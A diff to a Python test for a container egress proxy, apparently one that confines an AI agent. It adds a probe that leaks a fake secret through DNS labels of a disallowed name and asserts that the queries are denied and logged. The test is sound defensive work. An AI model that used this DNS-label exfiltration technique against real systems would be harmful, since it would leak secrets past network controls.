@@ -8,6 +8,8 @@ test bridge's gateway):
   SSRF into the host's services);
 - a kept-alive HTTP connection that asks for a second host after an allowed first request;
 - QUIC (UDP 443), which carries no readable name;
+- DNS exfiltration: secrets in the labels of a name outside the policy, as A and TXT queries,
+  to the gateway and to an address of the agent's choosing;
 - the proxy killed while the container runs: proxied traffic must go nowhere, never around it.
 """
 
@@ -97,8 +99,19 @@ def test_the_proxy_cannot_be_skipped_tricked_or_turned_on_the_host(
         assert f"served allowed.test at {topo.internet}" in got["host_switch"], got
         assert "served other.test" not in got["host_switch"], got
         assert got["quic"].startswith("dropped"), got
-        loop = probe(incus, name, topo, [["loop", "tls", topo.internet, "loop.test", 443]])
+        leak = "k3y-0123456789abcdef.other.test"
+        loop = probe(
+            incus,
+            name,
+            topo,
+            [
+                ["loop", "tls", topo.internet, "loop.test", 443],
+                ["dns_a", "dns", topo.gateway, leak, 1],
+                ["dns_txt", "dns", topo.internet2, leak, 16],
+            ],
+        )
         assert loop["loop"].startswith("refused"), loop
+        assert loop["dns_a"] == loop["dns_txt"] == "NXDOMAIN", loop
         records = [
             json.loads(line)
             for line in (coi.home / "egress" / "logs" / f"{name}.jsonl").read_text().splitlines()
@@ -108,6 +121,8 @@ def test_the_proxy_cannot_be_skipped_tricked_or_turned_on_the_host(
             for r in records
         ), records
         assert any("a later request asked for other.test" in r["reason"] for r in records)
+        leaked = [r for r in records if r["type"] == "dns" and r["domain"] == leak]
+        assert len(leaked) == 2 and all(r["decision"] == "denied" for r in leaked), leaked
         # fail closed: the proxy killed, the allowed name is reachable no more, by any path
         os.kill(int(state["pid"]), signal.SIGKILL)
         wait_for("the proxy to die", lambda: not Path(f"/proc/{state['pid']}").exists(), 10)
